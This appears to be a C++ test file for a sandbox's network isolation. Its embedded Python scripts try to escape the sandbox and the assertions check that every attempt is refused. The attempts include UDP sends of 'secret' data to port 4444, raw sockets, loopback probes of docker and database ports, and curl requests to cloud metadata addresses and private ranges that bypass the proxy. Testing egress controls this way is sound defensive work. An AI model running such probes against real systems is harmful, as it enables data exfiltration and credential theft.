// The attack: the command forgets about names and proxies and talks to addresses: public literals,
// the metadata services, private ranges, the machine's own addresses and loopback services, over
// TCP, UDP in every way to send it, and raw sockets. What must stop it: the namespace has no wire
// (helpers/firewall); the proxy dials only vetted addresses of allowed names
// (helpers/egress-proxy).
#include "attack/attack.hpp"

namespace awf::attack {
namespace {

using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

using LiteralAttack = Attack;

INSTANTIATE_TEST_SUITE_P(Callers, LiteralAttack, testing::Values(Caller::kRoot, Caller::kRootless),
                         caller_name);

TEST_P(LiteralAttack, NET_01_a_public_ipv4_literal_is_refused_at_once_and_no_packet_leaves) {
  const auto result = run_python(std::string(kPrelude) + R"(
start = time.monotonic()
for port in (443, 80, 22, 8443, 15001):
    try_tcp('198.41.30.7', port)
print('fast' if time.monotonic() - start < 1 else 'slow')
)");
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_THAT(result.output, HasSubstr("tcp 198.41.30.7 443 ECONNREFUSED"));
  EXPECT_THAT(result.output, Not(HasSubstr("CONNECTED")));
  EXPECT_THAT(result.output, HasSubstr("fast"));
  EXPECT_THAT(world.packets(), IsEmpty());
}

TEST_P(LiteralAttack, NET_02_ipv6_literals_of_every_kind_are_refused) {
  const auto result = run_python(std::string(kPrelude) + R"(
for address in ('2606:4700::7', 'fd00:9::9', '2603:1030:7::1', '::ffff:198.41.30.7', '64:ff9b::a09:909'):
    try_tcp(address, 443)
s = socket.socket(socket.AF_INET6)
s.settimeout(3)
try:
    s.connect(('fe80::1', 443, 0, 1))
    print('CONNECTED')
except OSError as e:
    print('zone', errno.errorcode.get(e.errno))
)");
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_THAT(result.output, HasSubstr("tcp 2606:4700::7 443 ECONNREFUSED"));
  EXPECT_THAT(result.output, Not(HasSubstr("CONNECTED")));
  EXPECT_THAT(world.packets(), IsEmpty());
}

TEST_P(LiteralAttack, NET_05_udp_sent_in_every_way_goes_nowhere_and_is_logged) {
  const auto result = run_python(std::string(kPrelude) + R"(
target = ('198.41.30.7', 4444)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
def attempt(name, send):
    try:
        send()
        print(name, 'sent')
    except OSError as e:
        print(name, errno.errorcode.get(e.errno))
attempt('sendto', lambda: s.sendto(b'secret', target))
attempt('sendmsg', lambda: s.sendmsg([b'secret'], [], 0, target))
c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
c.connect(target)
attempt('connected', lambda: c.send(b'secret'))
c.settimeout(2)
attempt('reply', lambda: c.recv(10))
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
class iovec(ctypes.Structure): _fields_ = [('base', ctypes.c_char_p), ('len', ctypes.c_size_t)]
class msghdr(ctypes.Structure): _fields_ = [('name', ctypes.c_void_p), ('namelen', ctypes.c_uint), ('iov', ctypes.POINTER(iovec)), ('iovlen', ctypes.c_size_t), ('control', ctypes.c_void_p), ('controllen', ctypes.c_size_t), ('flags', ctypes.c_int)]
class mmsghdr(ctypes.Structure): _fields_ = [('hdr', msghdr), ('len', ctypes.c_uint)]
address = struct.pack('=HH4s8x', socket.AF_INET, socket.htons(4445), socket.inet_aton('198.41.30.7'))
buffer = ctypes.create_string_buffer(address, 16)
vector = iovec(b'secret', 6)
message = mmsghdr(msghdr(ctypes.cast(buffer, ctypes.c_void_p), 16, ctypes.pointer(vector), 1, None, 0, 0), 0)
print('sendmmsg', libc.sendmmsg(s.fileno(), ctypes.byref(message), 1, 0))
v6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
attempt('sendto6', lambda: v6.sendto(b'secret', ('2606:4700::7', 4446)))
)",
                                 "example.org", {"--audit-dir", test_world::kAuditDirectory});
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_THAT(result.output, HasSubstr("reply ECONNREFUSED"));
  EXPECT_THAT(world.packets(), IsEmpty());
  const auto audit = world.file(std::string(test_world::kAuditDirectory) + "/audit.jsonl");
  ASSERT_TRUE(audit);
  for (const auto* port : {"4444", "4445", "4446"})
    EXPECT_THAT(*audit, HasSubstr(port));
}

TEST_P(LiteralAttack, NET_06_quic_to_an_allowed_and_a_denied_host_is_refused_in_an_instant) {
  const auto result = run_python(std::string(kPrelude) + R"(
mapped = socket.getaddrinfo('example.org', 443, socket.AF_INET)[0][4][0]
print('mapped', mapped)
for address in (mapped, '198.41.30.7'):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.connect((address, 443))
    start = time.monotonic()
    try:
        s.send(b'\xc0' + b'\0' * 1199)
        s.recv(100)
        print('ANSWERED')
    except OSError as e:
        print('quic', errno.errorcode.get(e.errno), 'fast' if time.monotonic() - start < 1 else 'slow')
)");
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_THAT(result.output, HasSubstr("mapped 198.1"));
  EXPECT_THAT(result.output, HasSubstr("quic ECONNREFUSED fast\nquic ECONNREFUSED fast"));
  EXPECT_THAT(world.packets(), IsEmpty());
}

TEST_P(LiteralAttack, NET_08_raw_and_packet_sockets_are_refused) {
  const auto result = run_python(std::string(kPrelude) + R"(
for family, kind, protocol in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET, socket.SOCK_RAW, 255),
                               (socket.AF_INET6, socket.SOCK_RAW, 58), (socket.AF_PACKET, socket.SOCK_RAW, 0),
                               (socket.AF_PACKET, socket.SOCK_DGRAM, 0), (44, socket.SOCK_RAW, 0)):
    try:
        socket.socket(family, kind, protocol)
        print('OPENED', family, kind, protocol)
    except OSError as e:
        print('refused', family, errno.errorcode.get(e.errno))
)");
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_THAT(result.output, Not(HasSubstr("OPENED")));
  EXPECT_THAT(world.packets(), IsEmpty());
}

// A server on the machine's own loopback stands for docker's TCP socket, a dev server, a database.
TEST_P(LiteralAttack, NET_17_and_NET_18_only_the_proxy_answers_on_the_loopback_inside) {
  auto server = world.spawn_in_machine(
      {"/usr/bin/python3", "-u", "-c",
       "import socket\ns = socket.create_server(('0.0.0.0', 5432))\nprint('up')\n"
       "while True: s.accept()[0].sendall(b'HOST SERVICE')\n"});
  ASSERT_TRUE(server.wait_for_output("up"));
  const auto result = run_python(std::string(kPrelude) + R"(
for address in ('127.0.0.1', '127.0.0.2', '20.55.0.2', '20.55.0.1', '::1', '2603:1030:7::2'):
    for port in (5432, 15001, 2375, 22):
        try_tcp(address, port)
s = try_tcp('127.0.0.1', 3128)
s.sendall(b'GET / HTTP/1.1\r\nHost: x\r\n\r\n')
print(s.recv(200).split(b'\r\n')[0])
)");
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_THAT(result.output, HasSubstr("tcp 127.0.0.1 3128 CONNECTED"));
  EXPECT_THAT(result.output, HasSubstr("HTTP/1.1 400"));
  EXPECT_THAT(result.output, HasSubstr("tcp 127.0.0.1 5432 ECONNREFUSED"));
  EXPECT_THAT(result.output, HasSubstr("tcp 20.55.0.2 5432 ECONNREFUSED"));
  EXPECT_THAT(result.output, HasSubstr("tcp 127.0.0.1 15001 ECONNREFUSED"));
  EXPECT_THAT(world.packets(), IsEmpty());
}

// By literal, by an allowed name that points there, through the proxy and by interception.
TEST_P(LiteralAttack, NET_19_metadata_services_are_out_of_reach_by_literal_and_by_allowed_name) {
  const auto result = run_python(std::string(kPrelude) + R"(
for address in ('169.254.169.254', '168.63.129.16', '100.100.100.200', '192.0.0.192', 'fd00:ec2::254'):
    for port in (80, 53 if address == '168.63.129.16' else 32526):
        if port != 53: try_tcp(address, port)
import subprocess
for options in ((), ('--noproxy', '*')):
    r = subprocess.run(['curl', '-sS', '-m', '10', *options, 'http://metadata.example.org/latest'], capture_output=True, text=True)
    print('curl', r.returncode, r.stdout[:300], r.stderr[:200])
)");
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_THAT(result.output, Not(HasSubstr("CONNECTED")));
  EXPECT_THAT(world.packets_to_others(), IsEmpty());
}

TEST_P(LiteralAttack, NET_20_and_DNS_12_private_places_stay_closed_even_under_an_allowed_name) {
  const auto result = run_python(std::string(kPrelude) + R"(
for address in ('10.9.9.9', '172.17.0.1', '192.168.1.1', '100.64.0.1', 'fd00:9::9'):
    try_tcp(address, 80)
import subprocess
for name in ('private', 'loopback', 'own', 'mapped6', 'nat64'):
    for scheme in ('http', 'https'):
        for options in ((), ('--noproxy', '*')):
            r = subprocess.run(['curl', '-sSf', '-k', '-m', '10', *options, f'{scheme}://{name}.example.org/'], capture_output=True, text=True)
            print('curl', name, 'REACHED' if r.returncode == 0 else r.returncode)
)");
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_THAT(result.output, Not(HasSubstr("CONNECTED")));
  EXPECT_THAT(result.output, Not(HasSubstr("REACHED")));
  EXPECT_THAT(world.packets_to_others(), IsEmpty());
  EXPECT_THAT(world.loopback_packets(), IsEmpty());
}

TEST_P(LiteralAttack, DNS_12_a_name_with_a_public_and_a_private_address_leads_to_the_public_one) {
  const auto result = run_shell("curl -sSk -m 10 http://mixed.example.org/; true");
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_THAT(world.packets_to_others({"93.184.216.40"}), IsEmpty());
}

}  // namespace
}  // namespace awf::attack
